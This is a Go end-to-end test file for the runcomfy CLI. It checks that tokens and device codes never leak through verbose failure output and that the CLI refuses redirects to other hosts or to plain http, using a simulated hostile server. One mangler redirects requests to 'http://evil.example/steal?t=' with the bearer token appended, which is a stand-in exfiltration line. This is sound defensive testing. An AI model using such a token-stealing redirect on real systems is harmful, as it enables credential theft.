package e2e

import (
	"bytes"
	"context"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/runcomfy/runcomfy/devserver"
)

// hostileServer is the dev server behind a front that can misbehave the
// way a broken or hostile RunComfy might: answer 5xx or 429, send bodies
// that are not the protocol, hang up, redirect — and echo the token and
// the device code back in all of them. It learns every token and device
// code that passes, so tests can search all output for them.
type hostileServer struct {
	dev *devserver.Server
	URL string

	mu      sync.Mutex
	mangle  mangler
	calls   map[string]int // requests per path since the mangler was set
	secrets []string
}

// mangler answers a request in place of the dev server and returns true,
// or returns false to let it through. call counts the requests to the
// same path since it was set, from 1; secret is the request's bearer token
// or device code.
type mangler func(w http.ResponseWriter, r *http.Request, call int, secret string) bool

func startHostileServer(t *testing.T, opts devserver.Options) *hostileServer {
	t.Helper()
	if opts.PollInterval == 0 {
		opts.PollInterval = 1
	}
	h := &hostileServer{dev: devserver.New(opts)}
	srv := httptest.NewServer(h)
	t.Cleanup(srv.Close)
	h.URL = srv.URL
	return h
}

// set makes m answer from now on; nil lets everything through.
func (h *hostileServer) set(m mangler) {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.mangle, h.calls = m, map[string]int{}
}

func (h *hostileServer) learn(secret string) {
	if secret == "" {
		return
	}
	h.mu.Lock()
	defer h.mu.Unlock()
	h.secrets = append(h.secrets, secret)
}

// learnBody remembers the secret fields of a JSON body.
func (h *hostileServer) learnBody(body []byte) string {
	var fields struct {
		DeviceCode  string `json:"device_code"`
		AccessToken string `json:"access_token"`
	}
	_ = json.Unmarshal(body, &fields)
	h.learn(fields.DeviceCode)
	h.learn(fields.AccessToken)
	return fields.DeviceCode
}

func (h *hostileServer) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
	r.Body = io.NopCloser(bytes.NewReader(body))
	secret := h.learnBody(body)
	if _, tok, ok := strings.Cut(r.Header.Get("Authorization"), " "); ok {
		secret = tok
		h.learn(tok)
	}
	h.mu.Lock()
	if h.calls == nil {
		h.calls = map[string]int{}
	}
	h.calls[r.URL.Path]++
	m, call := h.mangle, h.calls[r.URL.Path]
	h.mu.Unlock()
	if m != nil && m(w, r, call, secret) {
		return
	}
	rec := httptest.NewRecorder()
	h.dev.ServeHTTP(rec, r)
	h.learnBody(rec.Body.Bytes())
	for k, v := range rec.Header() {
		w.Header()[k] = v
	}
	w.WriteHeader(rec.Code)
	_, _ = w.Write(rec.Body.Bytes())
}

// allSecrets is every token and device code the server saw or handed out.
func (h *hostileServer) allSecrets() []string {
	h.mu.Lock()
	defer h.mu.Unlock()
	return append(append([]string(nil), h.secrets...), h.dev.Tokens()...)
}

// on answers requests for path with answer, leaving the others alone.
func on(path string, answer func(w http.ResponseWriter, call int, secret string)) mangler {
	return func(w http.ResponseWriter, r *http.Request, call int, secret string) bool {
		if r.URL.Path != path {
			return false
		}
		answer(w, call, secret)
		return true
	}
}

// echo answers with status and a body (and headers) that repeat secret in
// every way a server might: JSON fields, plain text, a header.
func echo(status int, contentType, body string) func(w http.ResponseWriter, call int, secret string) {
	return func(w http.ResponseWriter, _ int, secret string) {
		w.Header().Set("Content-Type", contentType)
		w.Header().Set("X-Debug-Echo", secret)
		w.Header().Set("Retry-After", "1")
		w.WriteHeader(status)
		fmt.Fprint(w, strings.ReplaceAll(body, "SECRET", secret))
	}
}

// hangUp closes the connection without an answer.
func hangUp(w http.ResponseWriter, _ int, _ string) {
	conn, _, err := http.NewResponseController(w).Hijack()
	if err == nil {
		conn.Close()
	}
}

// leakStep is one command of a leak test and the exit code that proves it
// took the path it is meant to take.
type leakStep struct {
	name   string
	mangle mangler
	env    map[string]string
	stdin  string
	args   []string
	code   int
	// tokenOut marks a command whose stdout is the token, by design.
	tokenOut bool
	// want is a text stderr must hold: the reason, said without secrets.
	want string
}

// TestVerboseFailurePathsNeverShowSecrets runs runcomfy at -vv through the
// ways a sign-in or a token check can fail — 5xx, 429, bodies that are not
// the protocol, a hang-up, denial, expiry, a rejected token — against a
// server that echoes the token and the device code back in every answer.
// Neither shows in any output, nor in any file under the home directory
// but token.json.
func TestVerboseFailurePathsNeverShowSecrets(t *testing.T) {
	const candidate = "rc_candidate_never_valid_8d1e"
	// failFirstPoll answers the first poll with status and a body that
	// echoes the device code, then lets the polls through.
	failFirstPoll := func(status int, contentType, body string) mangler {
		return func(w http.ResponseWriter, r *http.Request, call int, secret string) bool {
			if r.URL.Path != "/api/cli-auth/poll" || call > 1 {
				return false
			}
			echo(status, contentType, body)(w, call, secret)
			return true
		}
	}
	signIn := leakStep{name: "login", args: []string{"-vv", "login", "--no-browser"}, want: "Logged in as demo@runcomfy.dev."}
	onMiss := map[string]string{"RUNCOMFY_LOGIN_ON_MISS": "always"}
	autoApprove := devserver.Options{AutoApprove: true, AllowFastPolls: true}
	groups := []struct {
		name  string
		opts  devserver.Options
		steps []leakStep
	}{
		{"token checks fail", autoApprove, []leakStep{
			signIn,
			{name: "whoami, me answers 500 and echoes", mangle: on("/api/auth/me", echo(500, "application/json", `{"error":"token SECRET is broken","message":"Authorization: Bearer SECRET"}`)),
				args: []string{"-vv", "whoami"}, code: 69, want: "the server answered 500"},
			{name: "whoami, me answers 502 in text", mangle: on("/api/auth/me", echo(502, "text/plain", "upstream rejected SECRET\r\n\x1b[2J")),
				args: []string{"-vv", "whoami"}, code: 69, want: "the server answered 502"},
			{name: "whoami, me answers 429", mangle: on("/api/auth/me", echo(429, "application/json", `{"token":"SECRET"}`)),
				args: []string{"-vv", "whoami"}, code: 75, want: "the server answered 429"},
			{name: "whoami, me is not JSON", mangle: on("/api/auth/me", echo(200, "application/json", `{"id": SECRET}`)),
				args: []string{"-vv", "whoami"}, code: 69, want: "malformed answer"},
			{name: "whoami, me hangs up", mangle: on("/api/auth/me", hangUp), args: []string{"-vv", "whoami"}, code: 69, want: "devicecode: me:"},
			{name: "whoami, me redirects to another host", mangle: on("/api/auth/me", func(w http.ResponseWriter, _ int, secret string) {
				w.Header().Set("Location", "http://evil.example/steal?t="+secret)
				w.WriteHeader(http.StatusTemporaryRedirect)
			}), args: []string{"-vv", "whoami"}, code: 69, want: "refused a redirect"},
			{name: "status", args: []string{"-vv", "status"}},
			{name: "token", args: []string{"-vv", "token"}, tokenOut: true},
			{name: "git-credential get", stdin: "protocol=https\nhost=www.runcomfy.com\n", args: []string{"-vv", "git-credential", "get"}, tokenOut: true},
			{name: "with-token, me answers 500 and echoes", mangle: on("/api/auth/me", echo(500, "application/json", `{"error":"SECRET"}`)),
				stdin: candidate + "\n", args: []string{"-vv", "login", "--with-token"}, code: 69, want: "the server answered 500"},
			{name: "with-token rejected", stdin: candidate + "\n", args: []string{"-vv", "login", "--with-token"}, code: 77, want: "RunComfy rejected the token"},
			{name: "with-token not a token", stdin: candidate + "\x00\n", args: []string{"-vv", "login", "--with-token"}, code: 65, want: "stdin holds no token"},
			{name: "logout", args: []string{"-vv", "logout"}, want: "Logged out"},
		}},
		{"a 429 while polling", autoApprove, []leakStep{
			{name: "login through a 429", mangle: failFirstPoll(http.StatusTooManyRequests, "application/json", `{"error":"too many polls for SECRET","device_code":"SECRET"}`),
				args: []string{"-vv", "login", "--no-browser"}, want: "Logged in as demo@runcomfy.dev."},
			{name: "logout", args: []string{"-vv", "logout"}, want: "Logged out"},
		}},
		{"a 500 while polling", autoApprove, []leakStep{
			{name: "login through a 500", mangle: failFirstPoll(http.StatusInternalServerError, "text/html", `<html><body>crash while polling device_code=SECRET</body></html>`),
				args: []string{"-vv", "login", "--no-browser"}, want: "Logged in as demo@runcomfy.dev."},
			{name: "login, me fails after the approval", mangle: on("/api/auth/me", echo(500, "application/json", `{"error":"SECRET"}`)),
				args: []string{"-vv", "login", "--no-browser"}, want: "warning: signed in, but could not ask who you are"},
		}},
		{"a poll hangs up under a lean helper", autoApprove, []leakStep{
			{name: "lean helper login on miss", mangle: func(w http.ResponseWriter, r *http.Request, call int, _ string) bool {
				if r.URL.Path == "/api/cli-auth/poll" && call == 1 {
					hangUp(w, call, "")
					return true
				}
				return false
			}, env: onMiss, stdin: "protocol=https\nhost=www.runcomfy.com\n", args: []string{"git-credential-runcomfy", "get"}, tokenOut: true, want: "Logged in as demo@runcomfy.dev."},
		}},
		{"sign-ins get answers that are not the protocol", autoApprove, []leakStep{
			{name: "login, poll answers a token that is not one", mangle: on("/api/cli-auth/poll", echo(200, "application/json", `{"status":"authorized","access_token":"SECRET SECRET"}`)),
				args: []string{"-vv", "login", "--no-browser"}, code: 69, want: "malformed answer"},
			{name: "login, poll answers an unknown status", mangle: on("/api/cli-auth/poll", echo(200, "application/json", `{"status":"SECRET"}`)),
				args: []string{"-vv", "login", "--no-browser"}, code: 69, want: "malformed answer"},
			{name: "login, poll answers 404", mangle: on("/api/cli-auth/poll", echo(404, "application/json", `{"error":"no such code SECRET"}`)),
				args: []string{"-vv", "login", "--no-browser"}, code: 69, want: "the server answered 404"},
			{name: "login on miss, poll is not JSON", mangle: on("/api/cli-auth/poll", echo(200, "text/html", `<p>SECRET</p>`)),
				env: onMiss, stdin: "https://www.runcomfy.com", args: []string{"-vv", "get"}, code: 1, want: "malformed answer"},
		}},
		{"denied and expired", devserver.Options{ExpiresIn: 3, AllowFastPolls: true}, []leakStep{
			{name: "denied", args: []string{"-vv", "login", "--no-browser"}, code: 77, want: "denied"},
			{name: "expired", args: []string{"-vv", "login", "--no-browser"}, code: 75, want: "expired"},
		}},
		{"cut off until the code expires", devserver.Options{ExpiresIn: 3, AllowFastPolls: true}, []leakStep{
			{name: "every poll hangs up", mangle: on("/api/cli-auth/poll", hangUp), args: []string{"-vv", "login", "--no-browser"}, code: 75, want: "expired"},
			{name: "every poll answers 503 and echoes", mangle: on("/api/cli-auth/poll", echo(503, "application/json", `{"error":"SECRET"}`)),
				args: []string{"-vv", "login", "--no-browser"}, code: 75, want: "expired"},
		}},
	}
	for _, g := range groups {
		t.Run(g.name, func(t *testing.T) {
			t.Parallel()
			srv := startHostileServer(t, g.opts)
			s := newSandbox(t)
			s.env["RUNCOMFY_WEB_BASE"] = srv.URL
			var outputs []string
			for _, st := range g.steps {
				srv.set(st.mangle)
				for k, v := range st.env {
					s.env[k] = v
				}
				name, args := "runcomfy", st.args
				if !strings.HasPrefix(args[0], "-") {
					name, args = args[0], args[1:]
				}
				p := s.start(st.stdin, name, args...)
				if st.name == "denied" {
					code := userCode(t, p.waitStderr("Waiting for authorization", 10*time.Second))
					if err := srv.dev.Deny(code); err != nil {
						t.Fatal(err)
					}
				}
				r := p.wait(30 * time.Second)
				for k := range st.env {
					delete(s.env, k)
				}
				if r.code != st.code || !strings.Contains(r.stderr, st.want) {
					t.Errorf("%s: exit %d, want %d with %q on stderr:\n%s", st.name, r.code, st.code, st.want, r.stderr)
				}
				if strings.ContainsRune(r.stderr, 0x1b) {
					t.Errorf("%s: an escape sequence from the server reached the terminal: %q", st.name, r.stderr)
				}
				if !st.tokenOut {
					outputs = append(outputs, r.stdout)
				}
				outputs = append(outputs, r.stderr)
			}
			secrets := append(srv.allSecrets(), candidate)
			if len(secrets) < 5 {
				t.Fatalf("only %d secrets seen: the test would prove nothing", len(secrets))
			}
			assertNoSecrets(t, s, outputs, secrets)
		})
	}
}

// assertNoSecrets searches outputs, and every file under the sandbox's
// home but token.json and config.json, for each secret.
func assertNoSecrets(t *testing.T, s *sandbox, outputs, secrets []string) {
	t.Helper()
	for _, out := range outputs {
		for _, secret := range secrets {
			if secret != "" && strings.Contains(out, secret) {
				t.Errorf("output holds a secret %.6s…:\n%s", secret, out)
			}
		}
	}
	_ = filepath.Walk(s.home, func(path string, fi os.FileInfo, err error) error {
		if err != nil || !fi.Mode().IsRegular() || path == s.tokenPath() || path == filepath.Join(s.configDir(), "config.json") {
			return nil
		}
		data, _ := os.ReadFile(path)
		for _, secret := range secrets {
			if secret != "" && bytes.Contains(data, []byte(secret)) {
				t.Errorf("%s holds a secret %.6s…", path, secret)
			}
		}
		return nil
	})
}

// recorder is a server that must never be reached by a secret: it
// records every request — through it as an HTTP proxy, too, so that it
// stands for hosts that do not resolve, such as evil.example.
type recorder struct {
	mu   sync.Mutex
	seen []string
}

func startRecorder(t *testing.T) (*recorder, *httptest.Server) {
	rec := &recorder{}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		rec.mu.Lock()
		rec.seen = append(rec.seen, fmt.Sprintf("%s %s %s Authorization=%q body=%q", r.Method, r.Host, r.URL, r.Header.Get("Authorization"), body))
		rec.mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		// Answer as RunComfy would, so that a followed redirect succeeds
		// and the test sees it.
		switch r.URL.Path {
		case "/api/cli-auth/poll":
			fmt.Fprint(w, `{"status":"authorized","access_token":"rc_attacker_token_0000"}`)
		default:
			fmt.Fprint(w, `{"id":"usr_evil","email":"evil@example.com","device_code":"d","user_code":"EVIL-CODE","verify_url":"https://evil.example/","expires_in":600,"poll_interval":1}`)
		}
	}))
	t.Cleanup(srv.Close)
	return rec, srv
}

func (r *recorder) requests() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]string(nil), r.seen...)
}

// TestRedirectsNeverCarrySecretsAway points runcomfy at a web base that
// redirects its requests — to another host, to a subdomain, from https to
// plain http on the same host — and proves that neither the bearer token
// nor the device code ever reaches the target, and that the target's
// answer is never taken: the command fails with the reason.
func TestRedirectsNeverCarrySecretsAway(t *testing.T) {
	const token = "rc_redirect_secret_token_5150"
	rec, recSrv := startRecorder(t)

	// Loopback is never proxied; evil.example and sub.localhost go to
	// the recorder through HTTP_PROXY, as they would to a real host.
	proxyEnv := map[string]string{"HTTP_PROXY": recSrv.URL, "HTTPS_PROXY": recSrv.URL}

	// An https web base on 127.0.0.1 for the downgrade: the binary trusts
	// the test server's certificate through SSL_CERT_FILE.
	redirecting := func(target func(r *http.Request) string, status int) http.Handler {
		dev := devserver.New(devserver.Options{PollInterval: 1, AutoApprove: true, AllowFastPolls: true})
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if to := target(r); to != "" {
				http.Redirect(w, r, to, status)
				return
			}
			dev.ServeHTTP(w, r)
		})
	}
	onPath := func(path, to string) func(r *http.Request) string {
		return func(r *http.Request) string {
			if r.URL.Path == path {
				return to + r.URL.Path
			}
			return ""
		}
	}
	plainRec, plainSrv := startRecorder(t)
	_ = plainRec

	tests := []struct {
		name string
		// base starts the web base and returns its URL and environment.
		base func(t *testing.T) (string, map[string]string)
		args []string
	}{
		{"me to another host", func(t *testing.T) (string, map[string]string) {
			srv := httptest.NewServer(redirecting(onPath("/api/auth/me", "http://evil.example"), http.StatusTemporaryRedirect))
			t.Cleanup(srv.Close)
			return srv.URL, proxyEnv
		}, []string{"-vv", "whoami"}},
		{"me to a subdomain", func(t *testing.T) (string, map[string]string) {
			srv := httptest.NewServer(redirecting(func(r *http.Request) string {
				if r.URL.Path == "/api/auth/me" {
					return "http://api." + r.Host + r.URL.Path
				}
				return ""
			}, http.StatusPermanentRedirect))
			t.Cleanup(srv.Close)
			return strings.Replace(srv.URL, "127.0.0.1", "localhost", 1), proxyEnv
		}, []string{"-vv", "whoami"}},
		{"me from https to http on the same host", func(t *testing.T) (string, map[string]string) {
			srv := httptest.NewTLSServer(redirecting(onPath("/api/auth/me", plainSrv.URL), http.StatusFound))
			t.Cleanup(srv.Close)
			return srv.URL, map[string]string{"SSL_CERT_FILE": writeCert(t, srv)}
		}, []string{"-vv", "whoami"}},
		{"poll to another host with its body", func(t *testing.T) (string, map[string]string) {
			srv := httptest.NewServer(redirecting(onPath("/api/cli-auth/poll", "http://evil.example"), http.StatusTemporaryRedirect))
			t.Cleanup(srv.Close)
			return srv.URL, proxyEnv
		}, []string{"-vv", "login", "--no-browser"}},
		{"poll to another host as a GET", func(t *testing.T) (string, map[string]string) {
			srv := httptest.NewServer(redirecting(onPath("/api/cli-auth/poll", "http://evil.example"), http.StatusFound))
			t.Cleanup(srv.Close)
			return srv.URL, proxyEnv
		}, []string{"-vv", "login", "--no-browser"}},
		{"poll to a subdomain", func(t *testing.T) (string, map[string]string) {
			srv := httptest.NewServer(redirecting(func(r *http.Request) string {
				if r.URL.Path == "/api/cli-auth/poll" {
					return "http://auth." + r.Host + r.URL.Path
				}
				return ""
			}, http.StatusTemporaryRedirect))
			t.Cleanup(srv.Close)
			return strings.Replace(srv.URL, "127.0.0.1", "localhost", 1), proxyEnv
		}, []string{"-vv", "login", "--no-browser"}},
		{"poll from https to http on the same host", func(t *testing.T) (string, map[string]string) {
			srv := httptest.NewTLSServer(redirecting(onPath("/api/cli-auth/poll", plainSrv.URL), http.StatusTemporaryRedirect))
			t.Cleanup(srv.Close)
			return srv.URL, map[string]string{"SSL_CERT_FILE": writeCert(t, srv)}
		}, []string{"-vv", "login", "--no-browser"}},
		{"start to another host", func(t *testing.T) (string, map[string]string) {
			srv := httptest.NewServer(redirecting(onPath("/api/cli-auth/start", "http://evil.example"), http.StatusTemporaryRedirect))
			t.Cleanup(srv.Close)
			return srv.URL, proxyEnv
		}, []string{"-vv", "login", "--no-browser"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			base, env := tt.base(t)
			s := newSandbox(t)
			s.env["RUNCOMFY_WEB_BASE"] = base
			for k, v := range env {
				s.env[k] = v
			}
			if tt.args[1] == "whoami" {
				s.writeToken(token, "ada@example.com")
			}
			before := s.readToken()
			r := s.start("", "runcomfy", tt.args...).wait(30 * time.Second)
			if r.code != 69 || !strings.Contains(r.stderr, "refused a redirect that would send the token or the device code to another host or over plain http") {
				t.Errorf("exit %d, want 69 and the refusal; stderr:\n%s", r.code, r.stderr)
			}
			if got := s.readToken(); got != before {
				t.Errorf("token.json changed: %s", got)
			}
			if strings.Contains(r.stdout+r.stderr, token) {
				t.Errorf("the token was printed:\n%s", r.stderr)
			}
		})
	}
	if seen := append(rec.requests(), plainRec.requests()...); len(seen) > 0 {
		t.Errorf("a redirect target was reached:\n%s", strings.Join(seen, "\n"))
	}
}

// writeCert writes the TLS test server's certificate as PEM, for
// SSL_CERT_FILE, and returns its path.
func writeCert(t *testing.T, srv *httptest.Server) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "cert.pem")
	data := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.Certificate().Raw})
	if err := os.WriteFile(path, data, 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := x509.ParseCertificate(srv.Certificate().Raw); err != nil {
		t.Fatal(err)
	}
	return path
}

// TestRedirectOnTheSameOriginIsFollowed is the rule's other side: a
// redirect that stays on the web base's scheme, host and port is followed.
func TestRedirectOnTheSameOriginIsFollowed(t *testing.T) {
	dev := devserver.New(devserver.Options{PollInterval: 1})
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/api/auth/me" {
			http.Redirect(w, r, "/v2/api/auth/me", http.StatusTemporaryRedirect)
			return
		}
		r.URL.Path = strings.TrimPrefix(r.URL.Path, "/v2")
		dev.ServeHTTP(w, r)
	}))
	defer srv.Close()
	s := newSandbox(t)
	s.env["RUNCOMFY_WEB_BASE"] = srv.URL
	s.writeToken(dev.MintToken("ada@example.com"), "ada@example.com")
	ctx, cancel := context.WithTimeout(context.Background(), answerLimit)
	defer cancel()
	r, err := s.runCtx(ctx, input{}, "runcomfy", "whoami")
	if err != nil || r.code != 0 || !strings.HasPrefix(r.stdout, "Logged in as ada@example.com\n") {
		t.Fatalf("whoami through a same-origin redirect = %+v, %v", r, err)
	}
}
